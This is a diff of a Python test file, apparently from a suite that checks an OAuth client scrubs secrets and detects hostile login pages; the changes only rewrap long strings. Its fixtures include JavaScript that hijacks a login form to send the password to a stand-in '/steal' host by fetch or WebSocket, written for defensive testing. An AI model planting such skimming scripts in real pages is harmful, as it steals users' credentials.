@@ -174,7 +174,8 @@ def test_every_encoding_of_a_secret_is_scrubbed_from_exchanges_whatever_the_cont
 
 
 HOSTILE_CLIENTS = {  # for an environment file: the secret comes from T_SECRET
-    "service": "  service:\n    client_id: hostile-service\n    client_secret: ${T_SECRET}\n    scope: visma_api:read\n",
+    "service": "  service:\n    client_id: hostile-service\n    client_secret: ${T_SECRET}\n"
+    "    scope: visma_api:read\n",
     "web": "  web:\n    client_id: hostile-web\n    client_secret: ${T_SECRET}\n"
     "    redirect_uri: https://web.app.local/callback\n    scope: openid\n",
     "spa": "  spa:\n    client_id: hostile-spa\n    redirect_uri: https://spa.app.local/callback\n    scope: openid\n",
@@ -322,9 +323,11 @@ def _hostile_login_page(action: str, script: str = "") -> Answer:
 
 
 STEAL_BY_SCRIPT = """document.forms[0].onsubmit = event => { event.preventDefault();
-  fetch("{elsewhere}/steal", {method: "POST", mode: "no-cors", body: new URLSearchParams(new FormData(event.target))}); };"""
+  fetch("{elsewhere}/steal", {method: "POST", mode: "no-cors",
+    body: new URLSearchParams(new FormData(event.target))}); };"""
 STEAL_BY_WEB_SOCKET = """document.forms[0].onsubmit = event => { event.preventDefault();
-  new WebSocket("{elsewhere}/steal?p=" + encodeURIComponent(document.getElementById("password").value)); };"""
+  new WebSocket("{elsewhere}/steal?p="
+    + encodeURIComponent(document.getElementById("password").value)); };"""
 HOSTILE_LOGIN_PAGES = {  # how the page sends the password away: (login page, what the suite says)
     "form-action": (lambda issuer, elsewhere: _hostile_login_page(elsewhere + "/steal"), "is not the issuer's origin"),
     "plain-http": (lambda issuer, elsewhere: _hostile_login_page("http://login.example/steal"), "over plain HTTP"),
